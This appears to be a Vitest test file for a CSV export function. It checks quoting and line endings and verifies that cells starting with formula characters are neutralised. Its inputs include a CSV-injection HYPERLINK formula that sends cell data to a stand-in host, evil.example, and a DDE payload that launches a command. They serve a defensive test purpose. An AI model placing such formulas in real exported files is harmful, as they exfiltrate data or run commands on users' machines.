import { expect, test } from 'vitest'
import { tableToCsv } from './tableToCsv.ts'

test('rows end with CRLF, and only cells that need them have quotes', () => {
  const rows = [
    ['City', 'Rain, mm', 'Remarks'],
    ['Bergen', '71', 'called "the wet"'],
    ['Ulm', '', 'two\nlines'],
  ]
  expect(tableToCsv(rows)).toBe(
    'City,"Rain, mm",Remarks\r\nBergen,71,"called ""the wet"""\r\nUlm,,"two\nlines"',
  )
})

test('no rows are no text', () => {
  expect(tableToCsv([])).toBe('')
})

test.each([
  ['=1+1', "'=1+1"],
  [
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    `"'=HYPERLINK(""https://evil.example/?""&A1,""x"")"`,
  ],
  ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
  ['\t=1', "'\t=1"],
  ['\r=1', `"'\r=1"`],
  ['+1+1', "'+1+1"],
  ["-2+cmd|' /C calc'!A0", "'-2+cmd|' /C calc'!A0"],
  ['-A1', "'-A1"],
  ['--1', "'--1"],
  ['+', '+'],
  ['＝1+1', "'＝1+1"],
  ['－A1', "'－A1"],
])('T-56: %j is text to a spreadsheet', (cell, written) => {
  expect(tableToCsv([[cell]])).toBe(written)
})

test.each(['-', '-1', '+3', '-12.5', '-.5', '+3 %', '-40%', '-2e-9', '-1 234', '−5', 'a=b', '1-2'])(
  '%s is left as it is',
  (cell) => {
    expect(tableToCsv([[cell]])).toBe(cell)
  },
)

test('a negative number with separators keeps its sign', () => {
  expect(tableToCsv([['-1,234.5']])).toBe('"-1,234.5"')
})
